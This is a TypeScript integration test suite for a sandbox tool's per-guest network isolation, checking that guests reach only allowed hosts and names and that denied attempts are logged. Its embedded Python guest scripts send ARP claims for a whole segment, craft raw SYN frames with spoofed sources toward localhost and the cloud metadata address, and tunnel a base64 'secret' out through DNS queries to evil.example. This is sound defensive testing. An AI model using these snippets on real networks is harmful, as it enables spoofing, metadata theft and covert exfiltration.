/** `--net`: a network for each child, from its making to its end, and what a guest that tries can reach. Needs root. */
import { execFileSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { createConnection } from 'node:net';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/client';
import { StdioClientTransport } from '@modelcontextprotocol/client/stdio';
import * as assert from 'uvu/assert';
import { Controller, type WorkspaceInfo } from '../../src/client/index.js';
import { Engine } from '../../src/main/engine.js';
import { hostRulesUnused, Networks } from '../../src/main/network/networks.js';
import { linkNames } from '../../src/net/route.js';
import { Pool } from '../../src/main/pool.js';
import { findLeftovers, removeLeftover } from '../../src/main/host/cleanup.js';
import { CLI, forkd, jsonLines, startCli } from '../support/cli.js';
import { startDaemon } from '../support/daemon.js';
import { openOutside, type Outside } from '../support/outside.js';
import { openResolver } from '../support/resolver.js';
import { BASE_TAG, eventually, makeWorld, sharedData, type World } from '../support/world.js';

import { suite } from '../support/suite.js';

const TAG = 'card';

const network = suite('network');
let world: World;
let env: Record<string, string>;
let outside: Outside;

const links = () => linkNames().filter((name) => /^fkd\d+$/.test(name));
/** The kernel takes namespaces away in its own time. */
const isClean = () => eventually(() => links().length === 0);

network.before(async () => {
  world = makeWorld();
  env = world.env;
  process.env['XDG_DATA_HOME'] = env['XDG_DATA_HOME'];
  process.env['FORKD_RUN_DIR'] = env['FORKD_RUN_DIR'];
  outside = await openOutside('203.0.113', 'fktest0');
  const engine = new Engine();
  try {
    // The small agent: such a guest boots in seconds.
    await engine.snapshot({ tag: TAG, net: true, agent: 'c', memoryMib: 192 });
  } finally {
    await engine.close();
  }
});
network.after(() => {
  outside.close();
  world.close();
});

/** A line of JSON to the agent at TCP 8888, and its answer. */
const ask = (address: string, request: object): Promise<Record<string, string>> =>
  new Promise((resolve, reject) => {
    const [host = '', port = 8888] = address.split(':');
    let text = '';
    const socket = createConnection({ host, port: Number(port), timeout: 10_000 }, () =>
      socket.write(`${JSON.stringify(request)}\n`),
    );
    socket.on('data', (data) => {
      text += data;
    });
    socket.on('end', () => resolve(JSON.parse(text) as Record<string, string>));
    socket.on('timeout', () => socket.destroy(new Error('no answer')));
    socket.on('error', reject);
  });

/** Tries to connect, in the guest. */
const TRY = `
import socket, sys
for target in sys.argv[1:]:
    host, port = target.rsplit(' ', 1)
    try:
        with socket.create_connection((host, int(port)), 5) as s: print(target, s.recv(100).decode().strip() or 'empty')
    except OSError as error: print(target, 'no')
`;

/** What the host calls a child: the upper of the two addresses of its link. */
const hostAddress = (link: string): string => {
  const last = 2 * Number(link.slice('fkd'.length)) + 1;
  return `10.43.${last >> 8}.${last & 255}`;
};

network('many are made and removed, none is left; children beyond the 253rd are as others', async () => {
  const pool = new Pool();
  const networks = new Networks(pool);
  const taken = await networks.take(300, { allow: ['10.0.0.0/8:443'], allowDomains: [] });
  assert.is(new Set(taken.map(({ address }) => address)).size, 300);
  const there = links();
  assert.is(there.length, 300);
  // Known for good (4): the kernel has one table for the neighbours of all namespaces, and it is small.
  const known = readFileSync('/proc/net/arp', 'utf8').match(/^10\.43\..* 0x6 .* fkd\d+$/gm);
  assert.is(known?.length, 300);
  const running = startCli(['fork', '--tag', TAG, '-n', '2', '--net', '--settle-secs', '30'], { env });
  await running.says(/child 2/);
  const hosts = links()
    .filter((name) => !there.includes(name))
    .map(hostAddress);
  const names = await Promise.all(
    hosts.map(async (host) => (await ask(host, { action: 'exec', args: ['hostname'] }))['stdout']),
  );
  assert.equal([hosts.length, new Set(names).size], [2, 2]);
  running.kill('SIGTERM');
  await running.ended;
  const descriptors = readdirSync('/proc/self/fd').length;
  for (const one of taken) one.end();
  assert.is(readdirSync('/proc/self/fd').length, descriptors - 3 * 300);
  await networks.close();
  await pool.close();
  assert.ok(await isClean());
  assert.is(hostRulesUnused(), false, 'the rules of the host are gone too');
});

network('each child has a network of its own, and its agent is there', async () => {
  const running = startCli(['fork', '--tag', TAG, '-n', '3', '--net', '--settle-secs', '30', '--json'], { env });
  await running.says(/child 3/);
  const hosts = links().map(hostAddress);
  assert.is(hosts.length, 3);
  const names = await Promise.all(
    hosts.map(async (host) => (await ask(host, { action: 'exec', args: ['hostname'] }))['stdout']),
  );
  assert.is(new Set(names).size, 3, 'three guests, though all have the address 10.42.0.2');
  // What the host reaches, a sibling does not.
  const [one = '', other = ''] = hosts;
  const tried = await ask(one, { action: 'exec', args: ['python3', '-c', TRY, `${other} 8888`, '10.43.0.0 8888'] });
  assert.is(tried['stdout'], `${other} 8888 no\n10.43.0.0 8888 no\n`);
  running.kill('SIGKILL');
  await running.ended;
  assert.ok(await isClean(), 'after kill -9 nothing holds the namespaces');
  const left = findLeftovers().remove.filter(({ kind }) => kind === 'network rules');
  assert.is(left.length, 1);
  for (const one of left) await removeLeftover(one);
  assert.is(hostRulesUnused(), false);
});

/** Asks its gateway for an answer in the name of all others on its segment. */
const CLAIM = `
import socket, struct
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(('eth0', 0))
own, gateway = bytes.fromhex('aafc00000001'), bytes([10, 42, 0, 1])
for last in range(3, 255):
    wire.send(b'\\xff' * 6 + own + b'\\x08\\x06' + struct.pack('>HHBBH', 1, 0x800, 6, 4, 1) + own + bytes([10, 42, 0, last]) + bytes(6) + gateway)
`;

network('a namespace has a name when it is asked for, and cleanup finds it after kill -9', async () => {
  const args = ['fork', '--tag', TAG, '-n', '2', '--per-child-netns', '--settle-secs', '30'];
  const running = startCli(args, { env });
  await running.says(/child 2/);
  const name = readdirSync('/run/netns').find((one) => one.startsWith('forkd-child-'));
  const reply = await forkd(['exec', '--child', name ?? '', '--', 'hostname'], { env });
  assert.match(reply.stdout, /^sb-/);
  await forkd(['exec', '--child', name ?? '', '--', 'python3', '-c', CLAIM], { env });
  const neighbours = [`--net=/run/netns/${name}`, 'cat', '/proc/net/arp'];
  const [, ...heard] = execFileSync('nsenter', neighbours, { encoding: 'utf8' }).trim().split('\n');
  assert.is(heard.length, 2, 'of 252 addresses that the guest says it has too, none is noted');
  running.kill('SIGKILL');
  await running.ended;
  const found = () => findLeftovers().remove.filter(({ kind }) => kind.startsWith('network'));
  assert.ok(await eventually(() => found().length >= 2));
  for (const one of found()) await removeLeftover(one);
  assert.equal(
    existsSync('/run/netns') ? readdirSync('/run/netns').filter((n) => n.startsWith('forkd-child')) : [],
    [],
  );
  assert.ok(await isClean());
  for (const one of found()) await removeLeftover(one);
});

network('nothing can be reached but what is allowed, and what was tried is told', async () => {
  // On the host somebody listens, on every address.
  const host = outside.hostPort;
  const forbidden = [
    '169.254.169.254 80',
    `10.42.0.1 ${host}`,
    `203.0.113.1 ${host}`,
    `10.43.0.2 ${host}`,
    `127.0.0.1 ${host}`,
    '203.0.113.7 80',
    `${outside.address} ${outside.port + 1}`,
  ];
  const allow = ['--allow', `${outside.address}:${outside.port}`, '--allow', `203.0.113.0/24:${host}`];
  const args = ['--tag', TAG, '-n', '1', ...allow, '--json', '--settle-secs', '1'];
  const ended = await forkd(
    ['fork', ...args, '--', 'python3', '-c', TRY, `${outside.address} ${outside.port}`, ...forbidden],
    { env },
  );
  assert.is(ended.code, 0, ended.stderr);
  const [line] = jsonLines<{ stdout: string }>(ended);
  const said = line?.stdout.trim().split('\n') ?? [];
  assert.is(said[0], `${outside.address} ${outside.port} hello 203.0.113.1`, 'it leaves with the address of this host');
  assert.equal(
    said.slice(1),
    forbidden.map((target) => `${target} no`),
  );
  assert.match(ended.stderr, /child 1 was not let through: .*169\.254\.169\.254:80\/tcp/);
  const other = `${outside.address}:${outside.port + 1}/tcp`;
  for (const target of [`10.42.0.1:${host}/tcp`, `203.0.113.1:${host}/tcp`, '203.0.113.7:80/tcp', other])
    assert.match(ended.stderr, target);
});

/** Asks for names, then connects to what they stand for; then asks in ways of its own. */
const ASK = `
import socket, struct, sys, time
port = int(sys.argv[1])
for name in sys.argv[2:]:
    try:
        with socket.create_connection((name, port), 5) as s: print(name, s.recv(100).decode().strip())
    except OSError as error: print(name, 'no')
address = sys.argv[-1]
try: socket.create_connection((address, port + 1), 5)
except OSError: print('another port no')
question = struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l for l in [b'c2VjcmV0', b'evil', b'example']) + bytes([0, 0, 16, 0, 1])
for server in ('10.42.0.1', '8.8.8.8'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.sendto(question, (server, 53))
        print('tunnel by', server, s.recv(512)[3] & 15)
    except OSError: print('tunnel by', server, 'no')
with socket.create_connection(('10.42.0.1', 53), 5) as s:
    s.sendall(struct.pack('>H', len(question)) + question)
    print('by tcp', s.recv(512)[5] & 15)
end = time.monotonic() + 40
while time.monotonic() < end:
    try:
        with socket.create_connection((address, port), 5) as s: s.recv(100)
    except OSError:
        print('over')
        break
    time.sleep(0.3)
`;

/** A guest's root writes frames of its own making, which no rule inside the guest has seen, of IPv6 too. */
const HOSTILE = `
import socket, struct
GATEWAY, OWN = bytes.fromhex('02fc00000001'), bytes.fromhex('aafc00000001')
def total(data): return sum(struct.unpack('>%dH' % (len(data) // 2), data))
def folded(n):
    while n > 0xffff: n = (n & 0xffff) + (n >> 16)
    return ~n & 0xffff
def syn(source, target, port):
    a, b = socket.inet_aton(source), socket.inet_aton(target)
    ip = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 40, 1, 0, 64, 6, 0, a, b)
    ip = ip[:10] + struct.pack('>H', folded(total(ip))) + ip[12:]
    tcp = struct.pack('>HHIIBBHHH', 40000, port, 1, 0, 0x50, 2, 1000, 0, 0)
    check = folded(total(a + b + struct.pack('>HH', 6, 20) + tcp))
    return GATEWAY + OWN + b'\\x08\\x00' + ip + tcp[:16] + struct.pack('>H', check) + tcp[18:]
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(('eth0', 0))
for source, target, port in (('10.42.0.2', '127.0.0.1', 22), ('127.0.0.1', '127.0.0.1', 23), ('10.42.0.99', '198.51.100.1', 24), ('10.42.0.2', '169.254.169.254', 25)):
    wire.send(syn(source, target, port))
six = struct.pack('>IHBB16s16s', 6 << 28, 20, 6, 64, socket.inet_pton(10, '2001:db8::2'), socket.inet_pton(10, '2001:db8:1::7'))
wire.send(GATEWAY + OWN + b'\\x86\\xdd' + six + struct.pack('>HHIIBBHHH', 40000, 26, 1, 0, 0x50, 2, 1000, 0, 0))
`;

network('frames of its own making, and IPv6, come no further, and are told', async () => {
  const args = ['fork', '--tag', TAG, '-n', '2', '--allow', '0.0.0.0/0', '--json', '--settle-secs', '1'];
  const ended = await forkd([...args, '--', 'python3', '-c', HOSTILE], { env });
  assert.is(ended.code, 0, ended.stdout + ended.stderr);
  const told = ended.stderr.split('\n').filter((line) => line.includes('was not let through'));
  assert.is(told.length, 2);
  for (const target of ['127.0.0.1:22', '127.0.0.1:23', '198.51.100.1:24', '169.254.169.254:25', '[2001:db8:1::7]:26'])
    assert.ok(
      told.every((line) => line.includes(`${target}/tcp`)),
      `${target} in ${told}`,
    );
});

network('names: those that are allowed lead somewhere, for others nobody is asked', async () => {
  const resolver = await openResolver({
    'good.example': [outside.address],
    'rebound.example': ['169.254.169.254'],
    'inside.example': ['192.168.7.7'],
    'evil.example': [outside.address],
  });
  try {
    const allowed = [`good.example:${outside.port}`, 'rebound.example', 'inside.example'].flatMap((n) => [
      '--allow-domain',
      n,
    ]);
    const python = ['python3', '-c', ASK, String(outside.port)];
    const names = [
      outside.address,
      'good.example',
      'rebound.example',
      'inside.example',
      'evil.example',
      outside.address,
    ];
    const args = ['fork', '--tag', TAG, '-n', '1', '--json', ...allowed, '--', ...python, ...names];
    const ended = await forkd(args, { env: { ...env, FORKD_DNS: resolver.address } });
    assert.is(ended.code, 0, ended.stderr);
    const [line] = jsonLines<{ stdout: string }>(ended);
    assert.equal(line?.stdout.trim().split('\n'), [
      `${outside.address} no`,
      'good.example hello 203.0.113.1',
      'rebound.example no',
      'inside.example no',
      'evil.example no',
      // Let through by its name, as long as that holds.
      `${outside.address} hello 203.0.113.1`,
      'another port no',
      'tunnel by 10.42.0.1 3',
      'tunnel by 8.8.8.8 no',
      'by tcp 3',
      // The answer held for two seconds, which counts as ten.
      'over',
    ]);
    assert.not(
      resolver.asked.some((name) => name.includes('evil')),
      'nothing of it has left this host',
    );
    const another = `${outside.address}:${outside.port + 1}/tcp`;
    const all = [
      'evil.example',
      'c2vjcmv0.evil.example',
      'rebound.example (169.254.169.254)',
      '8.8.8.8:53/udp',
      another,
    ];
    for (const told of all) assert.ok(ended.stderr.includes(told), `${told} in ${ended.stderr}`);
  } finally {
    resolver.close();
  }
});

network('the reference: one guest behind an interface of the host, or on loopback without any network', async () => {
  const engine = new Engine();
  try {
    await engine.snapshot({ tag: 'tapped', tap: 'forkd-tap0', agent: 'c', memoryMib: 192 });
  } finally {
    await engine.close();
  }
  assert.not(linkNames().includes('forkd-tap0'));
  const args = ['fork', '--tag', 'tapped', '-n', '1', '--settle-secs', '3600'];
  const running = startCli(args, { env });
  await running.says('child 1');
  assert.match((await ask('10.42.0.2', { action: 'exec', args: ['hostname'] }))['stdout'] ?? '', /^sb-/);
  const reach = `exec 3<>/dev/tcp/10.42.0.1/${outside.hostPort} && echo reached`;
  const tried = await ask('10.42.0.2', { action: 'exec', args: ['timeout', '2', 'bash', '-c', reach] });
  assert.not(tried['stdout'], 'the guest begins nothing');
  running.kill('SIGTERM');
  assert.is((await running.ended).signal, null);
  assert.not(linkNames().includes('forkd-tap0'));

  const offered = startCli([...args.slice(0, 2), TAG, ...args.slice(3)], {
    env: { ...env, FORKD_TARGET: '127.0.0.1:18881' },
  });
  await offered.says('child 1');
  assert.match((await ask('127.0.0.1:18881', { action: 'exec', args: ['hostname'] }))['stdout'] ?? '', /^sb-/);
  offered.kill('SIGTERM');
  await offered.ended;
});

network('the daemon: sandboxes with networks, told apart by their addresses, also after kill -9', async () => {
  const resolver = await openResolver({ 'good.example': [outside.address] });
  const options = { env: { FORKD_DNS: resolver.address } };
  let daemon = await startDaemon(world, [], options);
  const controller = new Controller({ baseUrl: `unix:${daemon.socketPath}`, timeoutMs: 60_000 });
  const reach = (id: string, host: string) =>
    controller.execCommand(id, ['python3', '-c', TRY, `${host} ${outside.port}`]);
  try {
    const wish = { allowDomains: ['good.example'] };
    const made = await controller.spawnSandboxes({ snapshotTag: TAG, n: 2, network: wish });
    assert.match(made[0]?.guest_addr ?? '', /^10\.43\.\d+\.\d+:8888$/);
    assert.is.not(made[0]?.guest_addr, made[1]?.guest_addr);
    const id = made[0]?.id ?? '';
    assert.match((await reach(id, outside.address)).stdout, / no$/m);
    assert.match((await reach(id, 'good.example')).stdout, /hello/);
    const denied = async () => (await controller.getSandbox(id)).network?.denied.map(({ to }) => to) ?? [];
    assert.equal(await denied(), [`${outside.address}:${outside.port}/tcp`]);
    const workspace = async (action: string, ...args: string[]) => {
      const ended = await forkd(['workspace', action, '--json', ...args], { env });
      assert.is(ended.code, 0, ended.stderr);
      return JSON.parse(ended.stdout) as WorkspaceInfo;
    };
    const allowed = ['--allow-domain', 'good.example', '--per-child-netns'];
    const online = await workspace('create', 'online', '--snapshot', TAG, ...allowed);
    const policy = { allow: [], allow_domains: ['good.example'] };
    assert.equal([online.network, online.netns], [policy, 'forkd-child-1']);
    assert.match((await reach(online.live_sandbox_id ?? '', 'good.example')).stdout, /hello/);
    await workspace('suspend', 'online');
    // Its name stays its own.
    const other = await workspace('create', 'other', '--snapshot', TAG, '--per-child-netns');
    assert.equal([other.network, other.netns], [undefined, 'forkd-child-2']);
    await controller.deleteWorkspace('other');

    process.kill(daemon.pid, 'SIGKILL');
    daemon = await startDaemon(world, [], options);
    const hosts = made.map(({ guest_addr }) => guest_addr);
    const names = await Promise.all(hosts.map((host) => ask(host, { action: 'exec', args: ['hostname'] })));
    assert.is(new Set(names.map(({ stdout }) => stdout)).size, 2);
    assert.match((await reach(id, 'good.example')).stdout, /hello/, 'the next daemon answers its questions');
    assert.match((await reach(id, 'evil.example')).stdout, / no$/m);
    assert.ok((await denied()).includes('evil.example'));
    await controller.killSandbox(id);
    const third = await workspace('create', 'third', '--snapshot', TAG, '--per-child-netns');
    const back = await workspace('resume', 'online');
    assert.equal([third.netns, back.netns, back.network], ['forkd-child-2', 'forkd-child-1', policy]);
    const again = await controller.getSandbox(back.live_sandbox_id ?? '');
    assert.equal([again.netns, again.network?.allow_domains], ['forkd-child-1', ['good.example']]);
    assert.match((await reach(again.id, 'good.example')).stdout, /hello/);
    assert.match((await reach(again.id, 'evil.example')).stdout, / no$/m);
    await controller.deleteWorkspace('online');
    assert.match(readFileSync(join(world.root, 'audit.log'), 'utf8'), /"network.denied".*"evil.example"/);
  } finally {
    await controller.close();
    resolver.close();
    assert.is(await daemon.stop(), 0);
  }
  assert.ok(await isClean());
  assert.is(hostRulesUnused(), false);
});

network('agents by MCP: what they allow is reached and nothing else, which is in the record', async () => {
  const resolver = await openResolver({ 'good.example': [outside.address], 'evil.example': [outside.address] });
  const daemon = await startDaemon(world, [], { env: { FORKD_DNS: resolver.address } });
  const client = new Client({ name: 'test', version: '1' });
  const call = async (name: string, args: Record<string, unknown>) => {
    const { content, structuredContent, isError } = await client.callTool({ name, arguments: args });
    assert.not.ok(isError, JSON.stringify(content));
    return structuredContent as Record<string, unknown>;
  };
  const spawnOne = async (wish: object) => {
    const { result } = await call('spawn_sandboxes', { snapshot_tag: TAG, ...wish });
    return (result as { id: string }[])[0]?.id ?? '';
  };
  const tried = async (sandbox_id: string, ...targets: string[]) => {
    const { stdout } = await call('exec_command', { sandbox_id, args: ['python3', '-c', TRY, ...targets] });
    return String(stdout).trim().split('\n');
  };
  const denied = async (sandbox_id: string) => {
    const { network } = (await call('get_sandbox', { sandbox_id })) as { network?: { denied: { to: string }[] } };
    return network?.denied.map(({ to }) => to) ?? [];
  };
  const allowed = `${outside.address} ${outside.port}`;
  const forbidden = [`203.0.113.1 ${outside.hostPort}`, '169.254.169.254 80', '203.0.113.8 80'];
  try {
    const its = { ...env, FORKD_URL: `unix:${daemon.socketPath}` };
    await client.connect(new StdioClientTransport({ command: process.execPath, args: [CLI, 'mcp'], env: its }));
    const byAddress = await spawnOne({ allow: [`${outside.address}:${outside.port}`] });
    assert.equal(await tried(byAddress, allowed, ...forbidden), [
      `${allowed} hello 203.0.113.1`,
      ...forbidden.map((target) => `${target} no`),
    ]);
    const told = await denied(byAddress);
    for (const target of forbidden) assert.ok(told.includes(`${target.replace(' ', ':')}/tcp`), `${target} in ${told}`);

    const byName = await spawnOne({ allow_domains: [`good.example:${outside.port}`] });
    const names = [allowed, `evil.example ${outside.port}`, `good.example ${outside.port}`];
    assert.equal(await tried(byName, ...names), [`${allowed} no`, `${names[1]} no`, `${names[2]} hello 203.0.113.1`]);
    assert.ok((await denied(byName)).includes('evil.example'));

    const alone = await spawnOne({ net: true });
    assert.equal(await tried(alone, allowed), [`${allowed} no`]);
  } finally {
    await client.close();
    resolver.close();
    assert.is(await daemon.stop(), 0);
  }
  assert.ok(await isClean());
});

network('a snapshot without a card is refused, with what to do', async () => {
  const shared = { ...env, XDG_DATA_HOME: sharedData() };
  const { code, stderr } = await forkd(['fork', '--tag', BASE_TAG, '-n', '1', '--net'], { env: shared });
  assert.is(code, 1);
  assert.match(stderr, /without a network card(.|\n)*forkd snapshot --tag NAME --net/);
});

network.run();
